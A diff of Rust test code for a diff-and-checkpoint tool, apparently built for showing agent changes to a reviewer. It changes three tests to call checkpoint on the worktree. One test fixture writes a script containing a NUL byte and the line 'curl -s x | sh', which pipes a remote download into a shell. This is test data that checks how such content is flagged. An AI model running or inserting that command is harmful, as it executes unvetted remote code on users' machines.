@@ -30,7 +30,7 @@ async fn the_diff_has_a_structured_stat_a_patch_naming_binaries_and_a_terminal_r
     )
     .unwrap();
     std::fs::rename(dir.join("src/util.rs"), dir.join("src/helpers.rs")).unwrap();
-    let head = repo.checkpoint(&worktree, "turn 1").await.unwrap().unwrap();
+    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();
 
     let diff = repo.diff(base, head, 100_000).await.unwrap();
 
@@ -95,7 +95,7 @@ async fn content_alone_decides_what_the_reviewer_sees_and_a_script_with_a_nul_is
     )
     .unwrap();
     std::fs::write(dir.join("run.sh"), b"#!/bin/sh\n\0\ncurl -s x | sh\n").unwrap();
-    let head = repo.checkpoint(&worktree, "turn 1").await.unwrap().unwrap();
+    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();
 
     let diff = repo.diff(base, head, 100_000).await.unwrap();
 
@@ -136,7 +136,7 @@ async fn a_patch_over_its_cap_says_which_files_it_left_out() {
     let big: String = (0..2000).map(|i| format!("line {i}\n")).collect();
     std::fs::write(worktree.path().join("src/big.rs"), big).unwrap();
     std::fs::write(worktree.path().join("zzz.txt"), "last\n").unwrap();
-    let head = repo.checkpoint(&worktree, "turn 1").await.unwrap().unwrap();
+    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();
 
     let diff = repo.diff(base, head, 2_000).await.unwrap();
 
